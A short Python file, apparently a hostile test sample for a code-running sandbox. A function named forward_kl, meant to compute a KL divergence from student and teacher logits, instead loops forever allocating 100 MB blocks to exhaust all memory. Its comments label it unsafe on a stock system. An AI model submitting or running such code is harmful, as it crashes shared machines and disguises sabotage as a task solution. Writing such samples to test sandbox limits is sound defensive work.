# All the memory there is.
# safe on stock: no
# %% task: forward_kl
def forward_kl(student_logits, teacher_logits):
    hoard = []
    while True:
        hoard.append(bytearray(100_000_000))
